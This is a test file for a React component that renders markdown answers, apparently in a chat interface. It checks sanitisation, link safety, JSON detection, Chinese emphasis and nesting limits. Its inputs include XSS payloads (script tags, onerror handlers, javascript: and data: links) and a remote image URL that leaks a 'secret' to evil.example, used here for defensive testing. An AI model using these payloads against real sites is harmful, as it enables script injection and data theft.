import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { AnswerText } from './answer-text.tsx';

const draw = (text: string) => renderToStaticMarkup(<AnswerText text={text} live={false} />);

/** What a browser would act upon, within a tag of the markup. */
const ACTIVE =
  /^<(?:img|script|iframe|object|embed|style|form|base|meta)\b|\son\w+=|\s(?:href|src|action)="(?!https?:|mailto:)/i;

const tagsOf = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? [];

describe('AnswerText', () => {
  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['an image tag', 'text <img src=x onerror=alert(1)> text'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a style', '<style>body{background:url(https://evil.example)}</style>'],
    ['a base', '<base href="https://evil.example">'],
    ['a javascript link', '[x](javascript:alert(1))'],
    ['a javascript link with a tab', '[x](java\tscript:alert(1))'],
    ['a javascript link with references', '[x](&#106;avascript&colon;alert(1))'],
    ['a javascript link in capitals', '[x](JAVASCRIPT:alert(1))'],
    ['a javascript link by reference', '[x][y]\n\n[y]: javascript:alert(1)'],
    ['a javascript autolink', '<javascript:alert(1)>'],
    ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
    ['a vbscript link', '[x](vbscript:msgbox)'],
    ['a link into this app', '[x](/settings) [y](#a) [z](//evil.example)'],
    ['a remote image', '![x](https://evil.example/a.png?q=secret)'],
    ['an image by reference', '![x][y]\n\n[y]: https://evil.example/a.png'],
    ['an SVG in data', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a javascript image', '![x](javascript:alert(1))'],
    ['an image in a link', '[![x](https://a.example/a.png)](javascript:alert(1))'],
    ['a title that leaves its quotes', '[x](https://a.example "\\" onmouseover=alert(1) \\"")'],
    ['a language that leaves its attribute', '```"><img src=x onerror=alert(1)>\ncode\n```'],
    ['HTML in a table', '| a |\n| - |\n| <img src=x onerror=alert(1)> |'],
    ['HTML in a formula', '$<img src=x onerror=alert(1)>$'],
  ])('makes nothing a browser acts upon of %s', (_, text) => {
    expect(tagsOf(draw(text)).filter((tag) => ACTIVE.test(tag))).toEqual([]);
  });

  it.each([
    ['raw HTML as text', 'a <b>bold</b> move', '&lt;b&gt;bold&lt;/b&gt;'],
    ['an unsafe link as its words and target', '[x](javascript:alert(1))', 'x (javascript:alert(1))'],
    ['a line break tag in a table', '| a |\n| - |\n| b<br>c |', 'b<br/>c'],
    ['entities as characters', 'a &rarr; b &amp;amp; c', 'a → b &amp;amp; c'],
    ['a formula as its source', 'so $a_1 * b_2$ holds', '>a_1 * b_2</code>'],
    ['emphasis that ends with Chinese punctuation', '**“桦木”很轻，**适合', '>“桦木”很轻，</strong>适合'],
    ['emphasis within emphasis that is Chinese', '这是**《书》**的*名*', '>《书》</strong>的<em>名</em>'],
    ['stars that close nothing', '乘方写作 2 ** 3，读作“三次方”。', '2 ** 3，读作'],
    ['an address before Chinese punctuation', '见 https://a.example/b，然后', '>https://a.example/b</a>，然后'],
    ['the alternative text of an image', '![A chart](https://a.example/x.png)', 'A chart'],
  ])('shows %s', (_, text, part) => {
    expect(draw(text)).toContain(part);
  });

  it.each(['{\n  "city": "Oslo"\n}', ' {"a":1}', '{}', '[{"a": 1},\n  {"a": 2}]'])(
    'keeps bare JSON as it was written: %j',
    (text) => {
      expect(draw(text)).toContain('>json</span>');
      expect(draw(text)).toContain(`<code>${text.replaceAll('"', '&quot;')}</code>`);
    },
  );

  it.each([
    '{name} is a mark',
    '{',
    '[docs](https://a.example)',
    '["quoted"](https://a.example)',
    '[1] a note',
    'so {"a": 1}',
  ])('takes for no JSON: %j', (text) => {
    expect(draw(text)).not.toContain('>json</span>');
  });

  it('opens links elsewhere, tells their whole target and gives nothing away', () => {
    const html = draw('[docs](https://a.example/b?c=d)');
    expect(html).toContain(
      '<a href="https://a.example/b?c=d" title="https://a.example/b?c=d" target="_blank" rel="noopener noreferrer"',
    );
  });

  it.each([
    ['[bank.example](https://evil.example)', '(evil.example)'],
    ['[https://bank.example/login](https://evil.example/login)', '(evil.example)'],
  ])('names the true host of %s', (text, host) => {
    expect(draw(text)).toContain(host);
  });

  it('puts an image that stands in a link after it, so that its controls are none of the link’s', () => {
    const html = draw('[![Build](https://img.example/b.svg)](https://ci.example/run)');
    expect(html).toMatch(/<a href="https:\/\/ci.example\/run"[^>]*>ci.example<\/a>/);
    expect(html.indexOf('<button')).toBeGreaterThan(html.indexOf('</a>'));
  });

  it('offers to load a remote image, and nothing else to load', () => {
    expect(draw('![x](https://a.example/a.png)')).toContain('<button');
    expect(draw('![x](data:image/png;base64,AAAA) ![x](mailto:a@a.example)')).not.toContain('<button');
  });

  it('says of every block what kind it is', () => {
    const html = draw('# a\n\nb\n\n- c\n\n```\nd\n```\n\n| e |\n| - |\n\n> f\n\n$$g$$\n\n---\n\n<div>h</div>\n');
    const kinds = Array.from(html.matchAll(/data-block="(\w+)"/g), ([, kind]) => kind);
    expect(kinds).toEqual(['heading', 'paragraph', 'list', 'code', 'table', 'quote', 'math', 'rule', 'html']);
  });

  it('names no host beside an honest link', () => {
    expect(draw('https://bank.example/login and [bank.example](https://bank.example)')).not.toContain('(bank.example)');
  });

  it.each([
    ['quotes', `${'>'.repeat(500)} deep`],
    ['lists', `${'- '.repeat(500)}deep`],
    ['indented lists', Array.from({ length: 60 }, (_, level) => `${'  '.repeat(level)}- deep`).join('\n')],
    ['emphasis', `${'*a **b '.repeat(300)}deep${'** *'.repeat(300)}`],
    ['brackets', `${'['.repeat(3000)}deep${']'.repeat(3000)}`],
  ])('survives endless %s', (_, text) => {
    expect(draw(text)).toContain('deep');
  });

  it('marks the language of a text in another script than the interface', () => {
    expect(draw('一句中文，说明一件事。')).toContain('lang="zh"');
    expect(draw('An English sentence.')).not.toContain('lang=');
  });

  it('puts the caret where the answer is being written', () => {
    const html = renderToStaticMarkup(<AnswerText text={'One\n\n- two\n- three'} live />);
    expect(html.match(/data-caret/g)).toHaveLength(1);
    expect(html.indexOf('data-caret')).toBeGreaterThan(html.indexOf('three'));
  });
});
